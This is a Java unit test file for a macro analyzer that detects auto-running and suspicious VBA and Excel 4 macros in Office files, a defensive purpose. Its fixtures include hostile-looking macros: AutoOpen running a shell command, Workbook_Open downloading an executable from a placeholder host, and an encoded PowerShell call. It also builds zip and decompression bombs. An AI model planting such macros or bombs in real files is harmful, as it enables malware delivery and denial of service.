package org.peekaboo.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.peekaboo.office.testing.OfficeFiles.module;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.office.testing.OfficeFiles;

class MacroAnalyzerTest {
    private static final Map<String, String> NO_MODULES = Map.of();

    private final MacroAnalyzer analyzer = MacroAnalyzer.withDefaultLimits();

    @TempDir
    Path dir;

    @Test
    void filesThatAreNoOfficeDocumentsHaveNoMacros() throws IOException {
        assertThat(analyze(text("Sub AutoOpen()\r\n  Shell \"cmd\"\r\nEnd Sub\r\n"))).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(text("%PDF-1.4\n1 0 obj\n<< >>\nendobj\n"))).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(text("{\\rtf1\\ansi Hello}"))).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(new byte[0])).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(OfficeFiles.zip(Map.of("notes.txt", text("AutoOpen Shell"))))).isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void officeDocumentsWithoutVbaHaveNoMacros() throws IOException {
        assertThat(analyze(OfficeFiles.doc(NO_MODULES))).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(OfficeFiles.xls(NO_MODULES, false, false))).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(OfficeFiles.docx())).isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void aWordMacroIsFoundWithItsSource() throws IOException {
        OleReport report = analyze(OfficeFiles.doc(module("Module1", "Sub Tidy()", "  Selection.Font.Bold = True",
                "End Sub")));

        assertThat(report.hasOfficeMacros()).isTrue();
        assertThat(report.vbaCode()).contains("Sub Tidy()", "Selection.Font.Bold = True");
        assertThat(report.hasAutoexec()).isFalse();
        assertThat(report.isSuspicious()).isFalse();
    }

    @Test
    void autoRunningAndSuspiciousMacrosAreDescribed() throws IOException {
        OleReport report = analyze(OfficeFiles.doc(module("ThisDocument",
                "Sub AutoOpen()",
                "  Set sh = CreateObject(\"WScript.Shell\")",
                "  sh.Run Chr (99) & \"md /c calc\", 0",
                "End Sub")));

        assertThat(report.detectedAutoexec()).containsExactly("AutoOpen: Runs when the Word document is opened");
        assertThat(report.detectedSuspicious()).containsExactly(
                "Shell: May run an executable file or a system command",
                "WScript.Shell: May run a program or command through Windows Script Host",
                "CreateObject: May create an OLE object, e.g. a shell, network or file object",
                "Chr: May hide strings by building them from character codes");
        assertThat(report.hasAutoexec()).isTrue();
        assertThat(report.isSuspicious()).isTrue();
    }

    @Test
    void keywordsMatchWholeWordsInAnyCase() throws IOException {
        OleReport report = analyze(OfficeFiles.doc(module("Module1",
                "Sub ShellSort(a): End Sub", "Sub AutoOpenLater(): End Sub", "Sub DOCUMENT_OPEN(): End Sub")));

        assertThat(report.detectedAutoexec()).containsExactly("Document_Open: Runs when the Word document is opened");
        assertThat(report.detectedSuspicious()).isEmpty();
    }

    @Test
    void excelWorkbookMacrosAreFound() throws IOException {
        OleReport report = analyze(OfficeFiles.xls(module("ThisWorkbook", "Private Sub Workbook_Open()",
                "  URLDownloadToFile 0, \"http://example.invalid/a.exe\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0",
                "End Sub"), false, false));

        assertThat(report.hasOfficeMacros()).isTrue();
        assertThat(report.detectedAutoexec()).containsExactly("Workbook_Open: Runs when the Excel workbook is opened");
        assertThat(report.detectedSuspicious()).extracting(finding -> finding.substring(0, finding.indexOf(':')))
                .containsExactly("Environ", "URLDownloadToFile");
    }

    @Test
    void anExcel4MacroSheetInALegacyWorkbookIsAMacro() throws IOException {
        OleReport sheetOnly = analyze(OfficeFiles.xls(NO_MODULES, true, false));
        OleReport autoOpen = analyze(OfficeFiles.xls(NO_MODULES, true, true));

        assertThat(sheetOnly.hasOfficeMacros()).isTrue();
        assertThat(sheetOnly.vbaCode()).isEmpty();
        assertThat(sheetOnly.hasAutoexec()).isFalse();
        assertThat(autoOpen.detectedAutoexec()).containsExactly(
                "Auto_Open: An Excel 4 macro runs when the workbook is opened (defined name)");
    }

    @Test
    void ooxmlMacroDocumentsAreFound() throws IOException {
        OleReport docm = analyze(OfficeFiles.docm(module("ThisDocument", "Sub Document_Open()",
                "  Shell \"powershell -enc AAAA\"", "End Sub")));
        OleReport xlsm = analyze(OfficeFiles.xlsmWithXlmMacroSheet());

        assertThat(docm.hasOfficeMacros()).isTrue();
        assertThat(docm.vbaCode()).contains("Shell \"powershell -enc AAAA\"");
        assertThat(docm.detectedAutoexec()).hasSize(1);
        assertThat(docm.detectedSuspicious()).extracting(finding -> finding.substring(0, finding.indexOf(':')))
                .containsExactly("Shell", "PowerShell");
        assertThat(xlsm.hasOfficeMacros()).isTrue();
        assertThat(xlsm.detectedAutoexec()).containsExactly(
                "Auto_Open: An Excel 4 macro runs when the workbook is opened (defined name)");
    }

    @Test
    void aMacroDocumentInsideAPlainZipIsFoundLikeOlevbaDoes() throws IOException {
        byte[] zip = OfficeFiles.zip(Map.of("invoice.doc", OfficeFiles.doc(module("Module1", "Sub AutoOpen()", "End Sub"))));

        assertThat(analyze(zip).hasOfficeMacros()).isTrue();
    }

    @Test
    void truncatedDocumentsFail() {
        byte[] doc = OfficeFiles.doc(module("Module1", "Sub AutoOpen()", "End Sub"));
        byte[] docm = OfficeFiles.docm(module("Module1", "Sub AutoOpen()", "End Sub"));

        assertThatThrownBy(() -> analyze(Arrays.copyOf(doc, doc.length / 2)))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("cannot read the Office document");
        assertThatThrownBy(() -> analyze(Arrays.copyOf(docm, docm.length / 2)))
                .isInstanceOf(OfficeDocumentException.class);
    }

    @Test
    void corruptDocumentsFail() {
        byte[] garbage = new byte[4096];
        byte[] doc = OfficeFiles.doc(NO_MODULES);
        System.arraycopy(doc, 0, garbage, 0, 8);
        for (int i = 8; i < garbage.length; i++) {
            garbage[i] = (byte) (i * 31);
        }

        assertThatThrownBy(() -> analyze(garbage)).isInstanceOf(OfficeDocumentException.class);
    }

    @Test
    void aCorruptVbaDirectoryFails() {
        byte[] doc = OfficeFiles.doc(module("Module1", "Sub AutoOpen()", "End Sub"));
        // The dir stream: signature byte, chunk header, flag byte, then PROJECTSYSKIND's first bytes.
        int records = indexOf(doc, new byte[] {0x00, 0x01, 0x00, 0x04, 0x00, 0x00, 0x00});
        assertThat(records).as("start of the dir stream").isGreaterThan(3);

        byte[] broken = doc.clone();
        broken[records - 3] = 0x00;
        assertThatThrownBy(() -> analyze(broken)).isInstanceOf(OfficeDocumentException.class);
    }

    @Test
    void aZipBombFailsWithoutInflatingIt() {
        byte[] bomb = OfficeFiles.docmZipBomb(32 << 20);
        assertThat(bomb.length).isLessThan(1 << 20);

        assertThatThrownBy(() -> analyze(bomb))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("word/vbaProject.bin inflates more than 100 times");
    }

    @Test
    void aLargePartFailsEvenAtAnInnocentRatio() throws IOException {
        MacroAnalyzer small = new MacroAnalyzer(new MacroLimits(1 << 20, 1024, 100, 100, 1 << 20, 8));
        byte[] docm = OfficeFiles.docm(module("Module1", "Sub X()", "End Sub"));

        assertThatThrownBy(() -> small.analyze(write(docm)))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("word/vbaProject.bin inflates to more than 1024 bytes");
    }

    @Test
    void aVbaDecompressionBombFailsBeforeTheSourceIsHeldInMemory() {
        // 4,000 chunks of 6 bytes decompress to 16 MB, twice the default VBA budget.
        byte[] doc = OfficeFiles.docWithDecompressionBomb(4_000);
        assertThat(doc.length).isLessThan(64 << 10);

        assertThatThrownBy(() -> analyze(doc))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("VBA source exceeds the limit of 8388608 bytes");
    }

    @Test
    void vbaSourceBeyondTheLimitFails() throws IOException {
        MacroAnalyzer small = new MacroAnalyzer(new MacroLimits(1 << 20, 1 << 20, 100, 100, 1000, 8));
        String line = "  x = x + 1 ' padding the source with harmless statements";
        String[] lines = new String[40];
        Arrays.fill(lines, line);

        assertThatThrownBy(() -> small.analyze(write(OfficeFiles.doc(module("Module1", lines)))))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("VBA source exceeds the limit of 1000 bytes");
    }

    @Test
    void anOle2FileBeyondTheSizeLimitFails() throws IOException {
        MacroAnalyzer small = new MacroAnalyzer(new MacroLimits(1024, 1 << 20, 100, 100, 1 << 20, 8));

        assertThatThrownBy(() -> small.analyze(write(OfficeFiles.doc(NO_MODULES))))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("exceeds the limit of 1024 bytes");
    }

    @Test
    void storagesNestedBeyondTheLimitFail() throws IOException {
        assertThat(analyze(OfficeFiles.nestedStorages(20))).isEqualTo(OleReport.NO_MACROS);
        assertThatThrownBy(() -> analyze(OfficeFiles.nestedStorages(200)))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("nested deeper than 32 levels");
    }

    @Test
    void officeZipsWithTooManyEntriesFail() {
        MacroAnalyzer small = new MacroAnalyzer(new MacroLimits(1 << 20, 1 << 20, 100, 3, 1 << 20, 8));
        Map<String, byte[]> entries = Map.of("[Content_Types].xml", new byte[1], "b", new byte[1], "c", new byte[1],
                "d", new byte[1]);

        assertThatThrownBy(() -> small.analyze(write(OfficeFiles.zip(entries))))
                .isInstanceOf(OfficeDocumentException.class)
                .hasMessageContaining("more than 3 entries");
    }

    @Test
    void anArchiveThatIsNoOfficeDocumentAndCannotBeReadHasNoMacrosTheEngineJudgesIt() throws IOException {
        MacroAnalyzer small = new MacroAnalyzer(new MacroLimits(1 << 20, 1 << 20, 100, 3, 1 << 20, 8));
        Map<String, byte[]> entries = Map.of("a", new byte[1], "b", new byte[1], "c", new byte[1], "d", new byte[1]);
        byte[] zipOfADoc = OfficeFiles.zip(Map.of("invoice.doc", OfficeFiles.doc(module("Module1", "Sub AutoOpen()",
                "End Sub"))));

        assertThat(small.analyze(write(OfficeFiles.zip(entries)))).isEqualTo(OleReport.NO_MACROS);
        assertThat(analyze(Arrays.copyOf(zipOfADoc, zipOfADoc.length - 30))).isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void anEncryptedDocumentWithADamagedEncryptionHeaderFails() {
        // Encrypted documents that do open are in EncryptedDocumentsTest.
        assertThatThrownBy(() -> analyze(OfficeFiles.encryptedOoxml()))
                .isInstanceOf(OfficeDocumentException.class);
    }

    private OleReport analyze(byte[] content) throws IOException {
        return analyzer.analyze(write(content));
    }

    private Path write(byte[] content) throws IOException {
        return Files.write(Files.createTempFile(dir, "sample", ""), content);
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static int indexOf(byte[] data, byte[] part) {
        for (int i = 0; i + part.length <= data.length; i++) {
            if (Arrays.equals(data, i, i + part.length, part, 0, part.length)) {
                return i;
            }
        }
        return -1;
    }
}
